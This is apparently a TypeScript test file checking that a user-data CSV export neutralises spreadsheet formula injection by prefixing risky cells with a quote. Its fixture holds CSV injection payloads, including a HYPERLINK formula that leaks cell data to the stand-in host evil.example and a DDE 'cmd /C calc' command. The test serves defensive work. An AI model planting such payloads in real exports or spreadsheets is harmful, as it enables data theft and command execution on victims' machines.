import { describe, expect } from 'vitest';
import { exportChanges, exportSnapshot } from '../src/history/export.js';
import { collect } from './helpers/export-output.js';
import { it } from './helpers/harness.js';

/*
 * OWASP's CSV injection rule: a cell that begins with =, +, -, @, tab or carriage return is
 * written with a leading ' so that a spreadsheet shows it as text instead of running it. A plain
 * number (-5, +1.5) is no formula and stays as it is; JSON lines are never changed.
 */

// Per user, the snapshot's text columns: a formula in each spelling a spreadsheet runs, and a number.
const HOSTILE = [
  { first_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', last_name: "+1+cmd|' /C calc'!A0", email: '@SUM(A1:A9)' },
  { first_name: '\t=1+1', last_name: '-2+3', email: '\r=1+1' },
  { first_name: '-5', last_name: '+1.5e3', email: 'plain@example.com' },
];
const FIELDS = { first_name: 'firstName', last_name: 'lastName', email: 'email' } as const;

/** The cells of one CSV line, unquoted (enough here: no line break inside a quoted cell but \r). */
function cells(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
    const raw = m[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return out;
}

describe('CSV exports and spreadsheets', () => {
  it('write a cell that a spreadsheet would run as a formula as text; numbers and JSON lines as they are', async ({ startHarness }) => {
    const h = await startHarness({ usersPerCompany: 3, partnerCompanies: 0, integrationUsers: 0 });
    const logins = h.sim.users('_host').map((u) => String(u.login));
    HOSTILE.forEach((values, i) => {
      h.sim.updateUser('_host', logins[i]!, Object.fromEntries(Object.entries(values).map(([column, v]) => [FIELDS[column as keyof typeof FIELDS], v])));
    });
    h.sim.addUser('_host', { login: '@evil' });
    await h.sync();

    const csv = await collect((out) => exportSnapshot(h.t.pool, new Date(), 'csv', out));
    const [header, ...rows] = csv.split('\n').filter(Boolean);
    const names = cells(header!);
    HOSTILE.forEach((values, i) => {
      const row = rows.map(cells).find((r) => r[names.indexOf('login')] === logins[i])!;
      for (const [column, value] of Object.entries(values)) {
        // Numbers and ordinary text as they are; anything else that begins like a formula behind a '.
        const expected = /^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(value) ? `'${value}` : value;
        expect(row[names.indexOf(column)], `${column} of user ${i}`).toBe(expected);
      }
    });
    expect(rows.map(cells).find((r) => r[names.indexOf('login')] === logins[0])![names.indexOf('first_name')]).toBe(`'${HOSTILE[0]!.first_name}`);
    expect(rows.map(cells).find((r) => r[names.indexOf('login')] === logins[2])![names.indexOf('first_name')]).toBe('-5');

    // The change log's CSV too: the login cell (a diff is one JSON cell, which begins with {).
    const changes = (await collect((out) => exportChanges(h.t.pool, { after: '0' }, 'csv', out))).split('\n').filter(Boolean).map(cells);
    const loginAt = changes[0]!.indexOf('login');
    expect(
      changes
        .slice(1)
        .map((r) => r[loginAt])
        .filter((l) => l!.includes('evil')),
    ).toEqual(["'@evil"]);
    // JSON lines carry the values as stored.
    const jsonl = await collect((out) => exportSnapshot(h.t.pool, new Date(), 'jsonl', out));
    expect(jsonl).toContain(JSON.stringify(HOSTILE[0]!.first_name));
  });
});
